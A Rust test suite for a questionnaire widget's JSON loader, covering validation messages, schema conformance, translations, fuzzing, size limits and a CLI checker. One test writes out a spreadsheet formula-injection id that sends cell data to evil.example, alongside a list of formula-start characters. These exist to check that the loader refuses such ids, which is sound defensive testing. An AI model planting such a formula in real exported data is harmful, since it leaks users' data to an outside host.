//! A site owner's own questionnaire: the documented format, its JSON Schema,
//! the loader's messages for broken files, the loader under arbitrary input,
//! the 5-phase example scored by the rule, and the `check-questionnaire`
//! command.
// Native only: proptest and processes do not exist on wasm32.
#![cfg(not(target_arch = "wasm32"))]

use std::path::{Path, PathBuf};
use std::process::Command;

use mq_core::i18n::{self, args};
use mq_core::model::{Answer, BUILT_IN_JSON, Level, Questionnaire};
use mq_core::scoring::{Outcome, assess};
use proptest::prelude::*;
use serde_json::Value;

fn crate_file(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
}

fn read(path: &str) -> String {
    std::fs::read_to_string(crate_file(path)).unwrap_or_else(|err| panic!("{path}: {err}"))
}

const EXAMPLE: &str = "docs/examples/digital-workplace.json";
/// A questionnaire in Brazilian Portuguese, which brings the widget's words.
const PORTUGUESE: &str = "docs/examples/digital-workplace-pt.json";
/// A questionnaire in French, without words of its own.
const FRENCH: &str = "docs/examples/digital-workplace-fr.json";
const SCHEMA: &str = "docs/questionnaire.schema.json";
const FIXTURES: &str = "tests/fixtures/questionnaires";

fn example() -> Questionnaire {
    Questionnaire::from_json(&read(EXAMPLE)).unwrap_or_else(|invalid| panic!("{invalid}"))
}

/// Each broken fixture with exactly the problems it must produce.
const BROKEN: &[(&str, &[&str])] = &[
    (
        "broken-rules.json",
        &[
            "phases[1].name: \"nl\" text missing",
            "dimensions[2]: id \"tools\" is used twice",
            "questions[3].options: expected 5 options (one per phase), found 4",
            "questions[4].dimension: \"information\" is not the id of a dimension",
            "questions[5].dimension: \"information\" is not the id of a dimension",
        ],
    ),
    (
        "wrong-shape.json",
        &[
            "version: expected a whole number from 0 to 4294967295, found a string",
            "intro.en: expected a text, found null",
            "phases[0].colour: unknown field, expected one of id, name, description",
            "dimensions[1].levels: missing",
            "questions[2].text: expected an object of texts by language, found a string",
            "questions[4].dont_know: expected true or false, found a string",
        ],
    ),
    (
        "profile-wrong-shape.json",
        &[
            "profile[0].answers[1].text: expected an object of texts by language, found a string",
            "profile[0].answers[2].id: expected a text, found a number",
            "profile[0].answers[2].colour: unknown field, expected one of id, text",
            "profile[1].answers: missing",
        ],
    ),
    (
        "profile-broken-rules.json",
        &[
            "profile[2]: id \"size\" is used twice",
            "profile[0].id: \"Team\" is not a background id: use 1 to 64 lowercase letters, digits and hyphens, starting with a letter or digit",
            "profile[0].text: \"nl\" is not one of the questionnaire's languages",
            "profile[0].answers[1]: id \"design\" is used twice",
            "profile[0].answers[2].id: \"r&d\" is not a background id: use 1 to 64 lowercase letters, digits and hyphens, starting with a letter or digit",
            "profile[1].text: \"en\" text is empty",
            "profile[1].answers: expected at least 2 answers, found 1",
            "profile[2].answers[1].text: \"en\" text missing",
        ],
    ),
    (
        "ui-broken-rules.json",
        &[
            "ui.de: \"de\" is not one of the questionnaire's languages",
            "ui.fr.forget: expected a text, found a plural's forms",
            "ui.fr.start: empty",
            "ui.pt-br.comecar: not one of the widget's texts: the keys are those of content/ui.json",
            "ui.pt-br.note_full.one: has no placeholder, but the widget fills {full}",
            "ui.pt-br.progress: has {n} {count}, but the widget fills {n} {total}",
            "ui.pt-br.questions_count: expected a plural's forms {\"one\": …, \"other\": …}, found a text",
            "ui.pt-br.start: has {agora}, but the widget fills no placeholder",
            "ui.pt-br.forget: missing: the widget has no words of its own in \"pt-br\", so ui.pt-br needs every text",
            "ui.pt-br.share_title: missing: the widget has no words of its own in \"pt-br\", so ui.pt-br needs every text",
        ],
    ),
    (
        "ui-wrong-shape.json",
        &[
            "ui.fr.minutes_count.few: unknown field, expected one of one, other",
            "ui.fr.questions_count.other: missing",
            "ui.fr.start: expected a text, or a plural's forms {\"one\": …, \"other\": …}, found a number",
            "ui.pt-br: expected an object of texts by key, found a string",
        ],
    ),
    (
        "cut-short.json",
        &["line 10, column 48: not JSON: EOF while parsing a string"],
    ),
    (
        "eight-phases.json",
        &[
            "phases: expected 3 to 7 phases, found 8",
            "dimensions[0].levels: expected 8 levels (one per phase), found 5",
            "dimensions[1].levels: expected 8 levels (one per phase), found 5",
            "dimensions[2].levels: expected 8 levels (one per phase), found 5",
            "dimensions[3].levels: expected 8 levels (one per phase), found 5",
            "questions[0].options: expected 8 options (one per phase), found 5",
            "questions[1].options: expected 8 options (one per phase), found 5",
            "questions[2].options: expected 8 options (one per phase), found 5",
            "questions[3].options: expected 8 options (one per phase), found 5",
            "questions[4].options: expected 8 options (one per phase), found 5",
            "questions[5].options: expected 8 options (one per phase), found 5",
            "questions[6].options: expected 8 options (one per phase), found 5",
            "questions[7].options: expected 8 options (one per phase), found 5",
        ],
    ),
];

#[test]
fn every_broken_fixture_reports_exactly_its_problems() {
    for (file, expected) in BROKEN {
        let json = read(&format!("{FIXTURES}/{file}"));
        match Questionnaire::from_json(&json) {
            Ok(_) => panic!("{file} was accepted"),
            Err(invalid) => assert_eq!(invalid.problems(), *expected, "{file}"),
        }
    }
}

#[test]
fn every_fixture_is_tested() {
    let mut files: Vec<String> = std::fs::read_dir(crate_file(FIXTURES))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    files.sort();
    let mut tested: Vec<&str> = BROKEN.iter().map(|(file, _)| *file).collect();
    tested.sort();
    assert_eq!(files, tested);
}

#[test]
fn the_top_level_must_be_an_object() {
    let invalid = Questionnaire::from_json("[1, 2]").unwrap_err();
    assert_eq!(
        invalid.problems(),
        ["(top level): expected an object, found a list"]
    );
}

#[test]
fn the_five_phase_example_is_valid() {
    let q = example();
    assert_eq!(q.id, "digital-workplace");
    assert_eq!(q.phases.len(), 5);
    assert_eq!(q.languages, ["en", "nl"]);
    assert!(
        q.questions
            .iter()
            .all(|question| question.options.len() == 5)
    );
}

#[test]
fn the_french_example_is_the_same_questionnaire_in_french_only() {
    let french = Questionnaire::from_json(&read(FRENCH)).expect("the French example is valid");
    let q = example();
    assert_eq!(french.languages, ["fr"]);
    assert_eq!((&french.id, french.version), (&q.id, q.version));
    let ids = |q: &Questionnaire| -> Vec<String> {
        q.questions
            .iter()
            .map(|question| question.id.clone())
            .collect()
    };
    assert_eq!(ids(&french), ids(&q));
    assert_eq!(french.phases.len(), q.phases.len());
}

/// The example's answers as levels, `0` for "don't know".
fn answers(levels: [u8; 8]) -> Vec<Option<Answer>> {
    levels
        .iter()
        .map(|&level| {
            Some(match level {
                0 => Answer::DontKnow,
                level => Answer::Level(Level(level)),
            })
        })
        .collect()
}

fn assessed(levels: [u8; 8]) -> mq_core::scoring::Assessment {
    match assess(&example(), &answers(levels)) {
        Outcome::Assessed(assessment) => assessment,
        other => panic!("no result for {levels:?}: {other:?}"),
    }
}

#[test]
fn the_five_phase_example_scores_by_the_rule() {
    // Dimensions: tools q1-q2, collaboration q3-q4, information q5-q6, skills q7-q8.
    let top = assessed([5; 8]);
    assert_eq!((top.phase, top.capped_by.as_slice()), (Level(5), &[][..]));
    assert!(
        top.next_steps.is_empty(),
        "nothing lies beyond the top phase"
    );

    // 5, 5, 4.5, 4.5: M = 4.75 reaches phase 5 exactly on the threshold.
    assert_eq!(assessed([5, 5, 5, 5, 5, 4, 5, 4]).phase, Level(5));
    // 5, 5, 4, 4.5: M = 4.625 stays in phase 4.
    assert_eq!(assessed([5, 5, 5, 5, 4, 4, 5, 4]).phase, Level(4));

    // 5, 5, 5, 1: M = 4 reaches phase 4, but skills (phase 1) caps it at 2.
    let capped = assessed([5, 5, 5, 5, 5, 5, 1, 1]);
    assert_eq!(capped.uncapped, Level(4));
    assert_eq!(capped.phase, Level(2));
    assert_eq!(capped.capped_by, [3]);
    assert!(capped.uneven);

    // Three "don't know"s leave five of eight: a result, but provisional.
    let partial = assessed([3, 0, 3, 0, 3, 0, 3, 3]);
    assert_eq!(partial.phase, Level(3));
    assert!(partial.provisional);
}

#[test]
fn the_example_in_the_format_document_is_valid() {
    let doc = read("docs/questionnaire-format.md");
    let (_, example) = doc.rsplit_once("```json\n").expect("a JSON example");
    let (example, _) = example.split_once("```").expect("its end");
    if let Err(invalid) = Questionnaire::from_json(example) {
        panic!("docs/questionnaire-format.md: {invalid}");
    }
}

#[test]
fn the_built_in_questionnaire_is_valid() {
    assert!(Questionnaire::from_json(BUILT_IN_JSON).is_ok());
}

// The JSON Schema.

#[test]
fn schema_file_is_generated_from_the_types() {
    let generated = Questionnaire::json_schema();
    if std::env::var_os("UPDATE_SCHEMA").is_some() {
        std::fs::write(crate_file(SCHEMA), &generated).unwrap();
    }
    let committed = std::fs::read_to_string(crate_file(SCHEMA)).unwrap_or_default();
    assert!(
        committed == generated,
        "{SCHEMA} is out of date with core/src/model.rs; refresh it with\n\n    \
         UPDATE_SCHEMA=1 cargo test --test questionnaire_format schema_file\n"
    );
}

/// Problems of `value` against the subset of JSON Schema that schemars
/// writes for the format: `$ref`, `type`, `properties`, `required`,
/// `additionalProperties`, `items`, `minItems` and `maxItems`. Enough to
/// show that the shipped files pass the schema editors will use.
fn schema_problems(schema: &Value, node: &Value, value: &Value, path: &str) -> Vec<String> {
    if let Some(reference) = node["$ref"].as_str() {
        let name = reference.trim_start_matches("#/$defs/");
        return schema_problems(schema, &schema["$defs"][name], value, path);
    }
    let mut problems = Vec::new();
    let types: Vec<&str> = match &node["type"] {
        Value::String(one) => vec![one.as_str()],
        Value::Array(many) => many.iter().filter_map(Value::as_str).collect(),
        _ => vec![],
    };
    let kind = match value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(n) if n.is_u64() || n.is_i64() => "integer",
        Value::Number(_) => "number",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    };
    if !types.is_empty() && !types.contains(&kind) {
        problems.push(format!("{path}: {kind} is not {types:?}"));
    }
    if let Value::Object(map) = value {
        for name in node["required"].as_array().into_iter().flatten() {
            if !map.contains_key(name.as_str().unwrap()) {
                problems.push(format!("{path}: {name} required"));
            }
        }
        for (name, field) in map {
            let path = format!("{path}.{name}");
            match (&node["properties"][name], &node["additionalProperties"]) {
                (Value::Null, Value::Bool(false)) => problems.push(format!("{path}: not allowed")),
                (Value::Null, Value::Null | Value::Bool(true)) => {}
                (Value::Null, extra) => {
                    problems.extend(schema_problems(schema, extra, field, &path))
                }
                (property, _) => problems.extend(schema_problems(schema, property, field, &path)),
            }
        }
    }
    if let Value::Array(items) = value {
        let count = items.len() as u64;
        if node["minItems"].as_u64().is_some_and(|min| count < min)
            || node["maxItems"].as_u64().is_some_and(|max| count > max)
        {
            problems.push(format!("{path}: {count} items"));
        }
        for (i, item) in items.iter().enumerate() {
            problems.extend(schema_problems(
                schema,
                &node["items"],
                item,
                &format!("{path}[{i}]"),
            ));
        }
    }
    problems
}

#[test]
fn the_shipped_questionnaires_pass_the_schema_and_broken_ones_do_not() {
    let schema: Value = serde_json::from_str(&read(SCHEMA)).unwrap();
    for file in ["content/social-maturity.json", EXAMPLE, PORTUGUESE] {
        let value: Value = serde_json::from_str(&read(file)).unwrap();
        assert_eq!(
            schema_problems(&schema, &schema, &value, ""),
            Vec::<String>::new(),
            "{file}"
        );
    }
    for file in [
        "wrong-shape.json",
        "eight-phases.json",
        "profile-wrong-shape.json",
        "ui-wrong-shape.json",
    ] {
        let value: Value = serde_json::from_str(&read(&format!("{FIXTURES}/{file}"))).unwrap();
        assert_ne!(
            schema_problems(&schema, &schema, &value, ""),
            Vec::<String>::new(),
            "{file}"
        );
    }
}

// A questionnaire's own words.

#[test]
fn a_questionnaire_in_a_language_the_widget_lacks_brings_every_word() {
    let q = Questionnaire::from_json(&read(PORTUGUESE)).unwrap_or_else(|e| panic!("{e}"));
    let ui = q.words("pt-br");
    assert_eq!(ui.start, "Iniciar questionário");
    assert_eq!(
        ui.progress(args::Progress { n: "3", total: "8" }),
        "Pergunta 3 de 8"
    );
    // Brazilian Portuguese says "0 pergunta", as French does.
    assert_eq!(ui.questions_count(0), "0 pergunta");
    assert_eq!(ui.questions_count(1), "1 pergunta");
    assert_eq!(ui.questions_count(8), "8 perguntas");
    assert_eq!(i18n::number(2.5, ui), "2,5");
    assert_eq!(i18n::date("2026-11-01", ui), "1º de novembro de 2026");
    assert_eq!(q.language_name("pt-br", |_| None), "Português (Brasil)");
    // Made once: the same words again are the same words in memory.
    let again = Questionnaire::from_json(&read(PORTUGUESE)).unwrap();
    assert!(std::ptr::eq(ui, again.words("pt-br")));
    assert!(q.warnings().is_empty(), "{:?}", q.warnings());
}

#[test]
fn a_questionnaire_may_replace_single_words_in_a_language_the_widget_has() {
    let mut value: Value = serde_json::from_str(&read(FRENCH)).unwrap();
    value["ui"] = serde_json::json!({"fr": {
        "start": "C'est parti",
        "questions_count": {"one": "{count} question courte", "other": "{count} questions courtes"},
        "language_name": "Français (Belgique)"
    }});
    let q = Questionnaire::from_json(&value.to_string()).unwrap_or_else(|e| panic!("{e}"));
    let (own, widget) = (q.words("fr"), i18n::ui_text("fr"));
    assert_eq!(own.start, "C'est parti");
    assert_eq!(own.questions_count(0), "0 question courte");
    assert_eq!(own.questions_count(2), "2 questions courtes");
    assert_eq!(q.language_name("fr", |_| None), "Français (Belgique)");
    // Every other word is the widget's French, and the widget's own stay.
    assert_eq!(own.back, widget.back);
    assert_eq!(own.r#continue, widget.r#continue);
    assert_eq!(widget.start, "Commencer le questionnaire");
    assert!(!std::ptr::eq(own, widget));
}

#[test]
fn a_language_without_words_falls_back_to_english_and_the_checker_warns() {
    let mut value: Value = serde_json::from_str(&read(PORTUGUESE)).unwrap();
    value.as_object_mut().unwrap().remove("ui");
    let q = Questionnaire::from_json(&value.to_string()).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(q.words("pt-br").start, i18n::ui_text("en").start);
    let warning = "languages[0]: the widget has no words of its own in \"pt-br\", and ui.pt-br \
                   gives none: its buttons, notes and messages show in English";
    assert_eq!(q.warnings(), [warning]);

    let dir = std::env::temp_dir().join(format!("mq-no-words-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("pt-without-words.json");
    std::fs::write(&file, value.to_string()).unwrap();
    let file = file.to_str().unwrap();
    let (code, out) = check(&[file, PORTUGUESE]);
    std::fs::remove_dir_all(&dir).unwrap();
    assert_eq!(code, 0, "a warning is no problem: {out}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(lines[0].starts_with(&format!("{file}: valid: ")), "{out}");
    assert_eq!(lines[1], format!("{file}: warning: {warning}"));
    assert!(
        lines[2].starts_with(&format!("{PORTUGUESE}: valid: ")),
        "{out}"
    );
}

// The loader under arbitrary input.

/// Any JSON value, a few levels deep.
fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>()
            .prop_filter("finite", |f| f.is_finite())
            .prop_map(Value::from),
        ".{0,8}".prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 32, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            prop::collection::btree_map("[a-z_]{0,8}", inner, 0..6)
                .prop_map(|map| Value::Object(map.into_iter().collect())),
        ]
    })
}

/// Replaces the node reached by following `turns` (each picks a child) with
/// `replacement`.
fn graft(value: &mut Value, turns: &[usize], replacement: Value) {
    let child = match value {
        Value::Array(items) if !items.is_empty() && !turns.is_empty() => {
            let i = turns[0] % items.len();
            &mut items[i]
        }
        Value::Object(map) if !map.is_empty() && !turns.is_empty() => {
            let i = turns[0] % map.len();
            map.values_mut().nth(i).unwrap()
        }
        _ => {
            *value = replacement;
            return;
        }
    };
    graft(child, &turns[1..], replacement);
}

/// Loads `json` and checks what any answer must satisfy: a valid
/// questionnaire can be scored; an invalid one has problems, each with a
/// path (or position) and a reason; and the text is called "not JSON"
/// exactly when serde_json, an independent parser, refuses it too.
fn load_holds(json: &str) {
    match Questionnaire::from_json(json) {
        Ok(q) => {
            let _ = assess(
                &q,
                &vec![Some(Answer::Level(q.top_level())); q.questions.len()],
            );
        }
        Err(invalid) => {
            assert!(!invalid.problems().is_empty());
            for problem in invalid.problems() {
                assert!(problem.contains(": "), "{problem}");
            }
            let not_json = invalid.problems()[0].contains(": not JSON: ");
            assert_eq!(
                not_json,
                serde_json::from_str::<Value>(json).is_err(),
                "{json}: {invalid}"
            );
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..256)) {
        load_holds(&String::from_utf8_lossy(&bytes));
    }

    #[test]
    fn arbitrary_json_never_panics(value in any_json()) {
        load_holds(&value.to_string());
    }

    /// The Portuguese example has the widget's words in its `ui` object,
    /// which the two-language one does not.
    #[test]
    fn an_example_with_any_part_replaced_never_panics(
        file in prop::sample::select(vec![EXAMPLE, PORTUGUESE]),
        turns in prop::collection::vec(any::<usize>(), 0..6),
        replacement in any_json(),
    ) {
        let mut value: Value = serde_json::from_str(&read(file)).unwrap();
        graft(&mut value, &turns, replacement);
        load_holds(&value.to_string());
    }
}

// The checker command.

fn check(files: &[&str]) -> (i32, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_check-questionnaire"))
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .args(files)
        .output()
        .expect("run check-questionnaire");
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8(output.stdout).unwrap(),
    )
}

#[test]
fn the_checker_accepts_the_example_with_a_summary() {
    assert_eq!(
        check(&[EXAMPLE]),
        (
            0,
            format!(
                "{EXAMPLE}: valid: \"digital-workplace\" version 1, 5 phases, 4 dimensions, \
                 8 questions, in en, nl\n"
            )
        )
    );
}

#[test]
fn the_checker_prints_every_problem_and_fails() {
    let file = format!("{FIXTURES}/broken-rules.json");
    let (code, out) = check(&[EXAMPLE, &file]);
    assert_eq!(code, 1);
    let expected: Vec<String> = BROKEN[0].1.iter().map(|p| format!("{file}: {p}")).collect();
    let lines: Vec<&str> = out.lines().skip(1).collect();
    assert_eq!(lines, expected);
}

#[test]
fn the_checker_reports_a_missing_file_and_needs_one() {
    let (code, out) = check(&["no-such-file.json"]);
    assert_eq!(code, 1);
    assert!(out.starts_with("no-such-file.json: cannot read: "), "{out}");
    assert_eq!(check(&[]).0, 2);
}

#[test]
fn the_checker_skips_a_byte_order_mark_as_browsers_do() {
    // Editors on Windows often save UTF-8 with a BOM; the browser's fetch
    // drops it, so the checker must not refuse what the widget shows.
    let dir = std::env::temp_dir().join(format!("mq-bom-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("with-bom.json");
    std::fs::write(&file, format!("\u{feff}{}", read(EXAMPLE))).unwrap();
    let file = file.to_str().unwrap();
    let (code, out) = check(&[file]);
    std::fs::remove_dir_all(&dir).unwrap();
    assert_eq!(code, 0, "{out}");
    assert!(out.contains(": valid: \"digital-workplace\""), "{out}");
}

// Limits: every count and size has a most, refused with its path, and
// nothing past a size or count limit is read.

use mq_core::model::{is_id, is_profile_id, limits};

/// The example after `change`, as JSON text.
fn example_with(change: impl FnOnce(&mut Value)) -> String {
    let mut value: Value = serde_json::from_str(&read(EXAMPLE)).unwrap();
    change(&mut value);
    value.to_string()
}

/// The problems of `json`, none when it is valid.
fn problems_of(json: &str) -> Vec<String> {
    match Questionnaire::from_json(json) {
        Ok(_) => Vec::new(),
        Err(invalid) => invalid.problems().to_vec(),
    }
}

/// `list` made `n` long by repeating its last item.
fn lengthen(list: &mut Value, n: usize) {
    let list = list.as_array_mut().unwrap();
    let last = list.last().unwrap().clone();
    list.resize(n, last);
}

#[test]
fn each_list_may_reach_its_limit_and_not_pass_it() {
    let lists: [(&str, usize, &str); 4] = [
        ("languages", limits::LANGUAGES, "languages"),
        ("dimensions", limits::DIMENSIONS, "dimensions"),
        ("questions", limits::QUESTIONS, "questions"),
        ("profile", limits::PROFILE_QUESTIONS, "background questions"),
    ];
    for (field, most, what) in lists {
        let at = problems_of(&example_with(|v| lengthen(&mut v[field], most)));
        assert!(
            !at.iter().any(|p| p.contains("at most")),
            "{field} at {most}: {at:?}"
        );
        let over = problems_of(&example_with(|v| lengthen(&mut v[field], most + 1)));
        assert_eq!(
            over,
            [format!(
                "{field}: at most {most} {what}, found {}",
                most + 1
            )],
            "only the limit is reported, nothing of the list is read"
        );
    }
    let answers = |n| example_with(|v| lengthen(&mut v["profile"][0]["answers"], n));
    assert!(
        !problems_of(&answers(limits::PROFILE_ANSWERS))
            .iter()
            .any(|p| p.contains("at most"))
    );
    assert_eq!(
        problems_of(&answers(limits::PROFILE_ANSWERS + 1)),
        [format!(
            "profile[0].answers: at most {} answers, found {}",
            limits::PROFILE_ANSWERS,
            limits::PROFILE_ANSWERS + 1
        )]
    );
}

#[test]
fn a_file_may_reach_the_size_limit_and_not_pass_it() {
    let json = read(EXAMPLE);
    let padded = |len: usize| format!("{json}{}", " ".repeat(len - json.len()));
    assert_eq!(problems_of(&padded(limits::BYTES)), Vec::<String>::new());
    assert_eq!(
        problems_of(&padded(limits::BYTES + 1)),
        [format!(
            "the file has {} bytes; a questionnaire may have at most {}",
            limits::BYTES + 1,
            limits::BYTES
        )]
    );
}

#[test]
fn a_text_may_reach_the_length_limit_and_not_pass_it() {
    let with_title =
        |chars: usize| example_with(|v| v["title"]["en"] = Value::from("é".repeat(chars)));
    assert_eq!(
        problems_of(&with_title(limits::TEXT_CHARS)),
        Vec::<String>::new()
    );
    assert_eq!(
        problems_of(&with_title(limits::TEXT_CHARS + 1)),
        [format!(
            "title.en: at most {} characters, found {}",
            limits::TEXT_CHARS,
            limits::TEXT_CHARS + 1
        )]
    );
}

#[test]
fn a_hundred_problems_are_listed_and_the_rest_counted() {
    // The last question repeated up to 150: each copy's id is used twice.
    let given = example().questions.len();
    let json = example_with(|v| lengthen(&mut v["questions"], 150));
    let invalid = Questionnaire::from_json(&json).unwrap_err();
    let more = 150 - given - limits::PROBLEMS_LISTED;
    assert_eq!(invalid.problems().len(), limits::PROBLEMS_LISTED);
    assert!(invalid.problems()[0].ends_with("is used twice"));
    assert_eq!(invalid.omitted(), more);
    assert!(
        invalid
            .to_string()
            .ends_with(&format!("…and {more} more problems"))
    );
}

#[test]
fn a_formula_as_an_id_is_refused_with_its_path() {
    let formula = r#"=HYPERLINK("https://evil.example/?leak="&A2,"Open")"#;
    let json = example_with(|v| {
        v["id"] = Value::from(formula);
        v["phases"][0]["id"] = Value::from("+1+cmd");
        v["dimensions"][0]["id"] = Value::from("@sum");
        v["questions"][1]["id"] = Value::from("-a1");
    });
    let rule = "is not an id: use 1 to 64 letters, digits, '-', '_' and '.', starting with a letter or digit";
    let problems = problems_of(&json);
    for (path, id) in [
        ("id", "\"=HYPERLINK(\"https://evil.example/?leak=\"…\""),
        ("phases[0].id", "\"+1+cmd\""),
        ("dimensions[0].id", "\"@sum\""),
        ("questions[1].id", "\"-a1\""),
    ] {
        let expected = format!("{path}: {id} {rule}");
        assert!(problems.contains(&expected), "{expected} in {problems:#?}");
    }
}

/// A character a spreadsheet reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn every_id_of_the_grammar_is_taken(id in "[A-Za-z0-9][A-Za-z0-9._-]{0,63}") {
        prop_assert!(is_id(&id));
    }

    #[test]
    fn every_background_id_of_its_grammar_is_taken(id in "[a-z0-9][a-z0-9-]{0,63}") {
        prop_assert!(is_profile_id(&id));
        prop_assert!(is_id(&id));
    }

    #[test]
    fn no_id_starts_a_formula_or_leaves_the_grammar(id in "\\PC{0,70}") {
        let grammar = (1..=64).contains(&id.len())
            && id.starts_with(|c: char| c.is_ascii_alphanumeric())
            && id.chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c));
        prop_assert_eq!(is_id(&id), grammar);
        if is_id(&id) {
            prop_assert!(!id.starts_with(FORMULA_STARTS));
        }
    }

    #[test]
    fn an_id_with_any_formula_start_is_refused(start in prop::sample::select(&FORMULA_STARTS[..]), rest in "[a-z0-9]{0,10}") {
        let id = format!("{start}{rest}");
        prop_assert!(!is_id(&id));
        prop_assert!(!is_profile_id(&id));
    }
}
